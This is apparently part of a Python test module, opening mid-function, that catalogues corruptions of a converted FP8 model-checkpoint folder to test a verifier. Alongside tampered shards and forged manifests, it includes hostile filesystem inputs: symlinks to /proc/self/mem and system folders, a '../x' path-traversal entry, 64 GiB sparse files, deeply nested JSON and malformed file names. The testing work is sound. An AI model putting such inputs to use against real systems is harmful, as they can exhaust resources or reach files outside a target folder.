        for factor in (2.0, -1.0, 0.0, float("nan"), float("inf")):
            yield Corruption(f"shard: a scale times {factor}", shard(FIRST, scaled(scale[result], factor)), only)
        yield Corruption("shard: a scale removed", shard(FIRST, lambda t, n=scale[result]: t.pop(n)), only)
        yield Corruption(
            "shard: a scale removed, also from the index",
            both(
                shard(FIRST, lambda t, n=scale[result]: t.pop(n)),
                tree_of(INDEX, lambda t, n=scale[result]: t["weight_map"].pop(n)),
            ),
            only,
        )
        yield Corruption(
            "shard: a scale of another shape",
            shard(FIRST, lambda t, n=scale[result]: t.__setitem__(n, t[n].reshape(-1, 1, 1))),
            only,
        )
        yield Corruption(
            "shard: a scale of another dtype",
            shard(FIRST, lambda t, n=scale[result]: t.__setitem__(n, t[n].double())),
            only,
        )
    for result in (*ALL_FP8, PLAIN):
        only = (result,)
        yield Corruption("shard: a bit of an unquantized tensor", shard(SECOND, bits("lm_head.weight", 9, 4)), only)
        yield Corruption("shard: a bit of a norm", shard(SECOND, bits("model.norm.weight", 0, 1)), only)
        yield Corruption("shard: metadata changed", shard(FIRST, lambda _: None, {"format": "tf"}), only)
        yield Corruption("shard: metadata added", shard(FIRST, lambda _: None, {"format": "pt", "x": ""}), only)
        yield Corruption("shard: removed", gone(SECOND), only)
    yield Corruption("shard: metadata removed", shard(FIRST, lambda _: None, {}))
    yield Corruption("shard: both removed", gone(FIRST, SECOND))
    yield Corruption("shard: all weights and the index removed", gone(FIRST, SECOND, INDEX))
    yield Corruption("shard: the two exchanged", _exchanged(FIRST, SECOND), (CHANNEL, PLAIN))
    yield Corruption("shard: emptied", whole(FIRST, b""))
    yield Corruption("shard: a Git LFS pointer", whole(FIRST, b"version https://git-lfs.github.com/spec/v1\n"))
    yield Corruption("shard: its last byte cut off", _cut(FIRST, -1), (CHANNEL, PLAIN))
    yield Corruption("shard: cut within its header", _cut(FIRST, 100))
    yield Corruption("shard: a byte appended", _appended(FIRST, b"\0"), (CHANNEL, PLAIN))
    yield Corruption("shard: of the same tensors as their source", _source_tensor(code))
    yield Corruption("shard: a tensor in both", _in_both("model.norm.weight"))
    yield Corruption("shard: a tensor too many", shard(FIRST, lambda t: t.update(extra=torch.zeros(2))))
    yield Corruption("shard: a tensor renamed", shard(FIRST, lambda t: t.update({f"x.{code}": t.pop(code)})))
    yield Corruption("shard: codes in another shape", shard(FIRST, lambda t: t.update({code: t[code].flatten()})))
    yield Corruption(
        "shard: codes transposed",
        shard(FIRST, lambda t: t.update({code: t[code].view(torch.uint8).T.contiguous().view(t[code].dtype)})),
    )
    yield Corruption("shard: codes as E5M2", header_of(FIRST, lambda h: {**h, code: {**h[code], "dtype": "F8_E5M2"}}))
    yield Corruption("shard: codes as bytes", header_of(FIRST, lambda h: {**h, code: {**h[code], "dtype": "U8"}}))
    yield Corruption("shard: an unknown dtype", header_of(FIRST, lambda h: {**h, code: {**h[code], "dtype": "FP9"}}))
    yield Corruption("shard: two tensors exchanged in the header", header_of(FIRST, _swapped_in_header))
    yield Corruption("shard: lm_head as FP8 with a scale", _head_quantized)
    yield Corruption(
        "shard: a module unquantized, with index, list and manifest to match", _module_unquantized(code), (CHANNEL,)
    )
    same = "every engine reads the same tensors"
    late = (REMOVED, ANEW)
    for result in (CHANNEL, PLAIN):
        only = (result,)
        yield Corruption(
            "shard: white space in its header",
            header_of(FIRST, lambda h: h, {"indent": 1}),
            only,
            same,
            late,
        )
        yield Corruption("shard: a longer padding", raw_header(FIRST, lambda h: h + b" " * 8), only, same, late)
        yield Corruption(
            "shard: data out of alignment", raw_header(FIRST, lambda h: h.rstrip() + b" "), only, same, late
        )
        yield Corruption("shard: header keys in another order", header_of(FIRST, rearranged), only, same, late)
        yield Corruption(
            "shard: tensors in another order",
            shard(FIRST, lambda t: [t.update({n: t.pop(n)}) for n in sorted(t, reverse=True)]),
            only,
            same,
            late,
        )


def _byte(tensor: str, index: int, value: int) -> Callable[[dict[str, torch.Tensor]], None]:
    def change(tensors: dict[str, torch.Tensor]) -> None:
        raw = tensors[tensor].clone().flatten().view(torch.uint8)
        raw[index] = value
        tensors[tensor] = raw.view(tensors[tensor].dtype).reshape(tensors[tensor].shape)

    return change


def _cut(name: str, end: int) -> Callable[[Path], None]:
    return lambda folder: put(folder / name, (folder / name).read_bytes()[:end])


def _appended(name: str, data: bytes) -> Callable[[Path], None]:
    return lambda folder: put(folder / name, (folder / name).read_bytes() + data)


def _source_tensor(code: str) -> Callable[[Path], None]:
    """Put the source's own weight in the place of its codes, beside the scale."""
    return shard(FIRST, lambda tensors: tensors.update({code: model()[FIRST][code]}))


def _in_both(name: str) -> Callable[[Path], None]:
    return shard(FIRST, lambda tensors: tensors.update({name: model()[SECOND][name]}))


def _swapped_in_header(header: dict[str, Any]) -> dict[str, Any]:
    one, other = f"{LAYER}self_attn.q_proj.weight", f"{LAYER}self_attn.k_proj.weight"
    return {**header, one: header[other], other: header[one]}


def _head_quantized(folder: Path) -> None:
    """Quantize the output layer as well, which engines load unquantized."""
    head = model()[SECOND]["lm_head.weight"].float()
    scale = head.abs().amax(1, keepdim=True) / 448
    added = {"lm_head.weight": (head / scale).to(torch.float8_e4m3fn), "lm_head.weight_scale": scale}
    shard(SECOND, lambda tensors: tensors.update(added))(folder)

    def place(tree: dict[str, Any]) -> None:
        tree["weight_map"]["lm_head.weight_scale"] = SECOND
        tree["metadata"]["total_size"] += scale.nbytes - head.numel()

    tree_of(INDEX, place)(folder)
    tree_of("config.json", setting("quantization_config", "ignore", value=[]))(folder)


def _module_unquantized(code: str) -> Callable[[Path], None]:
    """Make what another recipe would give: the weight of the source, listed as unquantized, without a scale."""

    def swap(tensors: dict[str, torch.Tensor]) -> None:
        del tensors[f"{code}_scale"]
        tensors[code] = model()[FIRST][code]

    def place(tree: dict[str, Any]) -> None:
        del tree["weight_map"][f"{code}_scale"]
        tree["metadata"]["total_size"] += SIDE * SIDE - 4 * SIDE

    listed = [*QUANTIZATION[CHANNEL]["ignore"], f"re:.*{FP8_MODULE.removeprefix('model.')}$"]
    return both(
        shard(FIRST, swap),
        tree_of(INDEX, place),
        tree_of("config.json", setting("quantization_config", "ignore", value=listed)),
    )


ADDED: dict[str, bytes] = {
    "model.safetensors": b"",
    "model-00003-of-00003.safetensors": b"",
    "mtp.safetensors": b"",
    "consolidated.safetensors": b"",
    "adapter_model.safetensors": b"",
    "adapter_config.json": b'{"base_model_name_or_path": "x"}',
    "pytorch_model.bin": b"\x80",
    "pytorch_model.bin.index.json": b"{}",
    "consolidated.00.pth": b"\x80",
    "training_args.pt": b"\x80",
    "tf_model.h5": b"\x89HDF",
    "model-Q4.gguf": b"GGUF",
    "model.npz": b"PK",
    "modeling_other.py": b"",
    "configuration_tiny.py": b"",
    "tokenization_tiny.py": b"",
    "sitecustomize.py": b"",
    "tokenizer.model": b"\n\x05",
    "tokenizer.model.v3": b"\n\x05",
    "tekken.json": b"{}",
    "spiece.model": b"\n",
    "sentencepiece.bpe.model": b"\n",
    "added_tokens.json": b'{"<x>": 2}',
    "vocab.txt": b"a\n",
    "tokenizer.tiktoken": b"YQ== 0\n",
    "chat_template.json": b'{"chat_template": "x"}',
    "other.jinja": b"x",
    "params.json": b"{}",
    "quantize_config.json": b'{"bits": 4}',
    "quant_config.json": b'{"w_bit": 4}',
    "hf_quant_config.json": b'{"quantization": {"quant_algo": "FP8"}}',
    "preprocessor_config.json": b"{}",
    "processor_config.json": b"{}",
    "video_preprocessor_config.json": b"{}",
    "model_index.json": b'{"_class_name": "X"}',
    "modules.json": b"[]",
    "sentence_bert_config.json": b"{}",
    "config_sentence_transformers.json": b"{}",
    "model.fp8.safetensors.index.json": b"{}",
    "additional_chat_templates/tool.jinja": b"x",
    "original/x.safetensors": b"",
    "original/params.json": b"{}",
    "1_Pooling/config.json": b"{}",
    "2_Dense/model.safetensors": b"",
    "text_encoder/model.safetensors": b"",
    "onnx/model.onnx": b"",
    "modeling_tiny/__init__.py": b"",
    "speculators/config.json": b"{}",
}
"""Files that an engine or a library may load, by the name that it looks for."""
ACCEPTED: dict[str, str] = {
    ".gitattributes": "the Hub adds it to every repository",
    ".cache/huggingface/download/config.json.metadata": "`hf download --local-dir` keeps its records there",
    ".cache/huggingface/.gitignore": "`hf download --local-dir` keeps its records there",
}
UNREAD: dict[str, str] = {
    "loss.png": "nothing loads it",
    "train.log": "nothing loads it",
    ".DS_Store": "nothing loads it",
    "__pycache__/modeling_tiny.cpython-312.pyc": "Python writes it beside code, and takes it for no other code",
    "logs/events.out": "nothing loads it",
}


def of_added_files() -> Iterator[Corruption]:
    """Files that the conversion did not make."""
    for name, data in ADDED.items():
        results = (CHANNEL, PLAIN) if "/" in name or name in ("tokenizer.model", "hf_quant_config.json") else (CHANNEL,)
        filled = data or (shard_bytes({"x": torch.zeros(2)}) if name.endswith(".safetensors") else b"")
        yield Corruption(f"added: {name}", _placed(name, filled), results)
    for name, reason in ACCEPTED.items():
        yield Corruption(f"added: {name}", _placed(name, b"x"), (CHANNEL, PLAIN), reason, MODES, passes=True)
    for name, reason in UNREAD.items():
        yield Corruption(f"added: {name}", _placed(name, b"x"), (CHANNEL,), reason, MODES)
    yield Corruption("added: the mark of an unfinished conversion", whole("nemotron_fp8.unfinished", b""))
    yield Corruption("added: a link named tokenizer.model", link("tokenizer.model", "tokenizer.json"))
    yield Corruption("added: a dangling link named tokenizer.model", link("tokenizer.model", "nowhere"))
    yield Corruption("added: a FIFO named added_tokens.json", as_fifo("added_tokens.json"))
    yield Corruption("added: a FIFO named x.safetensors", as_fifo("x.safetensors"))
    yield Corruption("added: a link to a folder", link("additional_chat_templates", "/usr"))
    yield Corruption("added: a tokenizer with a name of 250 letters", whole("t" * 250 + ".json", b"{}"))
    yield Corruption("added: a file whose name is not UTF-8", _odd_name(b"\xff\xfe.safetensors"))
    yield Corruption("added: a file whose name breaks the line", _odd_name(b"a\nb.safetensors"))


def _placed(name: str, data: bytes) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)

    return change


def _odd_name(name: bytes) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        with open(os.fsencode(folder) + b"/" + name, "wb") as file:  # noqa: PTH123  (pathlib has no names of bytes)
            file.write(b"{}")

    return change


def of_kinds() -> Iterator[Corruption]:
    """Links, folders, FIFOs and sockets in the place of files."""
    for name in ("config.json", INDEX, FIRST, "tokenizer.json", CARD, STATS, "LICENSE", CODE):
        yield Corruption(f"{name}: a dangling link", link(name, "nowhere"))
        yield Corruption(f"{name}: a link to itself", link(name, name))
        yield Corruption(f"{name}: a folder", as_folder(name))
        yield Corruption(f"{name}: a FIFO", as_fifo(name))
        yield Corruption(f"{name}: a link to other bytes outside", outside(name, b'{"other": 1}'))
        yield Corruption(
            f"{name}: a link to the same bytes outside",
            outside(name, None),
            harmless="the same bytes, as in the cache of the Hub",
            spared=MODES,
        )
        yield Corruption(f"{name}: a link to a device", link(name, "/dev/zero"))
    for name in ("config.json", FIRST, "tokenizer.json"):
        yield Corruption(f"{name}: a socket", as_socket(name))
        yield Corruption(f"{name}: a link to a folder", link(name, "/"))
        yield Corruption(f"{name}: a link to /proc/self/mem", link(name, "/proc/self/mem"))
    yield Corruption("tokenizer.json: a link to another file of the result", link("tokenizer.json", "vocab.json"))
    yield Corruption(f"{FIRST}: a link to the other shard", link(FIRST, SECOND))
    for name in ("tokenizer.json", CARD, "config.json", STATS, INDEX, FIRST, "LICENSE"):
        case = Corruption(f"{name}: extended to 64 GiB of zeros", sparse(name, 64 << 30))
        yield replace(case, modes=(AS_MADE, REMOVED))  # a manifest with its digest needs a minute


def of_nemo() -> Iterator[Corruption]:
    """A checkpoint that was converted from NeMo, with the tokenizer files that the conversion made."""
    one, weight_name = "model.safetensors", f"{LAYER}mlp.up_proj.weight"
    changes: dict[str, Callable[[Path], None]] = {
        "a bit of a weight": shard(one, bits(weight_name, 3, 1)),
        "two rows of a weight exchanged": shard(one, lambda t: t.update({weight_name: t[weight_name].flip(0)})),
        "metadata changed": shard(one, lambda _: None, {"format": "tf"}),
        "a tensor removed": shard(one, lambda t: t.pop("model.norm.bias")),
        "a tensor too many": shard(one, lambda t: t.update(extra=torch.zeros(2))),
        "a weight as float32": shard(one, lambda t: t.update({weight_name: t[weight_name].float()})),
        "README.md: a word": text_of(CARD, b"keeps its dtype", b"loses its dtype"),
        "README.md: the library": text_of(CARD, b"library_name: transformers", b"library_name: vllm"),
        "README.md: removed": gone(CARD),
        "config.json: removed": gone("config.json"),
        "tokenizer.model: one byte": _appended("tokenizer.model", b"\0"),
        "tokenizer.model: removed": gone("tokenizer.model"),
        "tokenizer_config.json: a token": tree_of("tokenizer_config.json", setting("eos_token", value="<s>")),
        "tokenizer_config.json: a flag as 0": tree_of("tokenizer_config.json", setting("add_bos_token", value=0)),
        "tokenizer_config.json: removed": gone("tokenizer_config.json"),
        "added: an index": whole(INDEX, b'{"metadata": {}, "weight_map": {}}'),
        "added: tokenizer.json": whole("tokenizer.json", b"{}"),
        "added: additional_chat_templates/x.jinja": _placed("additional_chat_templates/x.jinja", b"x"),
        "added: model_weights/x.pt": _placed("model_weights/x.pt", b"x"),
        "added: model_config.yaml": whole("model_config.yaml", b"x: 1"),
    }
    for name, change in changes.items():
        yield Corruption(f"converted: {name}", change, (NEMO,))


def of_manifest() -> Iterator[Corruption]:
    """The manifest itself, whose own digest no longer fits."""
    edits: dict[str, Callable[[dict[str, Any]], Any]] = {
        "another recipe": setting("recipe", "granularity", value="tensor"),
        "a recipe without a field": dropping("recipe", "numerics"),
        "a recipe with a field too many": setting("recipe", "x", value=1),
        "share_scales 0": setting("recipe", "share_scales", value=0),
        "another version": setting("made_by", "version", value="0.0.0"),
        "another digest of a file": setting("files", "LICENSE", "sha256", value="0" * 64),
        "no digest of a file": dropping("files", "LICENSE", "sha256"),
        "another size of a file": setting("files", "LICENSE", "size", value=1),
        "a file less": dropping("files", "LICENSE"),
        "a file more": setting("files", "x.json", value={"size": 0, "sha256": "0" * 64}),
        "schema 1.0": setting("schema", value=1.0),
        "schema true": setting("schema", value=True),
        "no source": dropping("source"),
        "another source": lambda t: t["source"]["shards"][0].update(size=1),
        "a key more": setting("x", value=1),
        "no digest of its own": dropping("manifest_sha256"),
        "a digest of its own of null": setting("manifest_sha256", value=None),
    }
    for name, edit in edits.items():
        yield Corruption(f"manifest: {name}", tree_of(MANIFEST, edit), (CHANNEL,), modes=(AS_MADE,))
    same = "the manifest's own digest is of its values"
    for name, change in {
        "white space": _written_as(MANIFEST, None),
        "keys in another order": _written_as(MANIFEST, 2, rearranged),
    }.items():
        yield Corruption(f"manifest: {name}", change, (CHANNEL,), same, (AS_MADE,), modes=(AS_MADE,))
    for name, change in {
        "emptied": whole(MANIFEST, b""),
        "no JSON": whole(MANIFEST, b"{"),
        "a list": whole(MANIFEST, b"[]"),
        "a folder": as_folder(MANIFEST),
        "a FIFO": as_fifo(MANIFEST),
        "a dangling link": link(MANIFEST, "nowhere"),
        "a link to itself": link(MANIFEST, MANIFEST),
        "a link to a device": link(MANIFEST, "/dev/zero"),
        "extended to 64 GiB of zeros": sparse(MANIFEST, 64 << 30),
        "a byte appended": _appended(MANIFEST, b"\n"),
        "deeply nested": whole(MANIFEST, b'{"a":' * 100_000),
    }.items():
        yield Corruption(f"manifest: {name}", change, (CHANNEL,), modes=(AS_MADE,))


def of_forged_manifest() -> Iterator[Corruption]:
    """A manifest that tells of another conversion, with a digest of its own that fits; tried as made anew."""
    edits: dict[str, Callable[[dict[str, Any]], Any]] = {
        "granularity": setting("recipe", "granularity", value="tensor"),
        "format": setting("recipe", "format", value="fp8"),
        "activations": setting("recipe", "activations", value="none"),
        "numerics": setting("recipe", "numerics", value="original"),
        "share_scales": setting("recipe", "share_scales", value=True),
        "share_scales 0": setting("recipe", "share_scales", value=0),
        "stats false": setting("recipe", "stats", value=False),
        "stats 1": setting("recipe", "stats", value=1),
        "select": setting("recipe", "select", value=["q_proj"]),
        "select as a text": setting("recipe", "select", value="_proj"),
        "ignore": setting("recipe", "ignore", value=["down_proj"]),
        "ignore, a pattern that is none": setting("recipe", "ignore", value=["("]),
        "also_select": setting("recipe", "also_select", value=["lm_head"]),
        "a field too many": setting("recipe", "x", value=1),
        "granularity null": setting("recipe", "granularity", value=None),
        "no recipe": dropping("recipe"),
        "an empty recipe": setting("recipe", value={}),
        "a task": setting("recipe", value={"task": "convert"}),
        "another task": setting("recipe", value={"task": "dequantize", "dtype": "bfloat16"}),
        "a task beside the recipe": setting("recipe", "task", value="convert"),
        "an unknown task": setting("recipe", value={"task": "prune"}),
        "no source": dropping("source"),
        "an empty source": setting("source", value={}),
        "a source of no shards": setting("source", "shards", value=[]),
        "a source shard's size": lambda t: t["source"]["shards"][0].update(size=1),
        "a source shard's size as a float": lambda t: t["source"]["shards"][0].update(
            size=float(t["source"]["shards"][0]["size"])
        ),
        "a source shard's tensors": lambda t: t["source"]["shards"][0].update(tensors_sha256="0" * 64),
        "a source shard's name": lambda t: t["source"]["shards"][0].update(name="model.safetensors"),
        "a source shard too many": lambda t: t["source"]["shards"].append(t["source"]["shards"][0]),
        "stacks in the source": setting("source", "stacks", value={"x": "[out, in]"}),
        "schema 1.0": setting("schema", value=1.0),
        "schema true": setting("schema", value=True),
        "a size as a float": lambda t: t["files"]["LICENSE"].update(size=float(t["files"]["LICENSE"]["size"])),
        "a size as true": setting("files", "LICENSE", "size", value=True),
        "a file less": dropping("files", "LICENSE"),
        "no files": setting("files", value={}),
        "a file that is not there": setting("files", "x.json", value={"size": 0, "sha256": "0" * 64}),
        "a file outside": setting("files", "../x", value={"size": 0, "sha256": "0" * 64}),
    }
    for name, edit in edits.items():
        yield Corruption(f"forged manifest: {name}", tree_of(MANIFEST, edit), (CHANNEL,), modes=(ANEW,))
    for name, edit in {
        "a key more": setting("x", value=1),
        "a key more of a file": setting("files", "LICENSE", "x", value=1),
        "made by another version": setting("made_by", "version", value="9.9.9"),
        "made by another program": setting("made_by", "name", value="other"),
    }.items():
        late = "a later version may write it"
        yield Corruption(f"forged manifest: {name}", tree_of(MANIFEST, edit), (CHANNEL,), late, (ANEW,), modes=(ANEW,))
    for name, edit in {
        "a recipe instead of the task": setting("recipe", value={"format": "fp8", "granularity": "tensor"}),
        "another dtype": setting("recipe", "dtype", value="float16"),
        "an unknown dtype": setting("recipe", "dtype", value="int8"),
        "no dtype": dropping("recipe", "dtype"),
        "another task": setting("recipe", value={"task": "convert"}),
    }.items():
        yield Corruption(f"forged manifest: {name}", tree_of(MANIFEST, edit), (PLAIN,), modes=(ANEW,))


def _written_as(
    name: str, indent: int | None, change: Callable[[Any], Any] = lambda tree: tree
) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        tree = change(json.loads((folder / name).read_text(encoding="utf-8")))
        put(folder / name, json.dumps(tree, indent=indent, ensure_ascii=False).encode())

    return write


def of_form() -> Iterator[Corruption]:
    """Changes that leave every value: white space, the order of keys, the spelling of a number."""
    same, late = "the same JSON value", (REMOVED, ANEW)
    for name in ("config.json", INDEX, STATS):
        yield Corruption(f"{name}: without white space", _written_as(name, None), (CHANNEL,), same, late)
        yield Corruption(f"{name}: more white space", _written_as(name, 8), (CHANNEL,), same, late)
        yield Corruption(f"{name}: keys in another order", _written_as(name, 2, rearranged), (CHANNEL,), same, late)
        yield Corruption(f"{name}: a line at its end", _appended(name, b"\n"), (CHANNEL,), same, late)
    yield Corruption(
        "config.json: 1e-05 as 0.00001", text_of("config.json", b"1e-05", b"0.00001"), (CHANNEL,), same, late
    )
    yield Corruption(
        "config.json: an escaped letter", text_of("config.json", "é".encode(), rb"\u00e9"), (CHANNEL,), same, late
    )
    yield Corruption("modes of files", _modes, ALL_FP8, "no byte is changed", MODES, passes=True)
    yield Corruption("times of files", _times, (CHANNEL, PLAIN), "no byte is changed", MODES, passes=True)
    yield Corruption("files behind links of the Hub cache", _cached, (CHANNEL,), "no byte is changed", MODES)


def _modes(folder: Path) -> None:
    for path in folder.iterdir():
        put(path, path.read_bytes())
        path.chmod(0o700)


def _times(folder: Path) -> None:
    for path in folder.iterdir():
        put(path, path.read_bytes())
        os.utime(path, (0, 0))


def _cached(folder: Path) -> None:
    """Turn every file into a link to a file beside the folder."""
    for path in list(folder.iterdir()):
        outside(path.name, None)(folder)


def catalog() -> list[Corruption]:
    """Return all corruptions; a name is unique for each result."""
    makers = (
        of_quantization_config,
        of_config,
        of_index,
        of_side_files,
        of_card,
        of_stats,
        of_shards,
        of_added_files,
        of_kinds,
        of_nemo,
        of_manifest,
        of_forged_manifest,
        of_form,
    )
    return [corruption for maker in makers for corruption in maker()]
